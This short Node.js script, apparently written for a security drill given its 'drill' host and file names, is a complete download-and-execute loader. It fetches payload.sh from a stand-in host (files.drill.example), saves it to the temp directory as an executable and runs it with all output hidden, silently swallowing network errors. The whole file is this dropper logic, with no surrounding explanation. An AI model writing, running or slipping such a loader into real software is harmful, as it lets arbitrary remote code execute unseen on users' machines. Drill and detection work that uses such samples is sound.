const { spawnSync } = require("child_process");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");

https.get("https://files.drill.example/payload.sh", (answer) => {
  let text = "";
  answer.on("data", (chunk) => (text += chunk));
  answer.on("end", () => {
    const file = path.join(os.tmpdir(), "drill-payload.sh");
    fs.writeFileSync(file, text, { mode: 0o755 });
    spawnSync(file, { stdio: "ignore" });
  });
}).on("error", () => {});
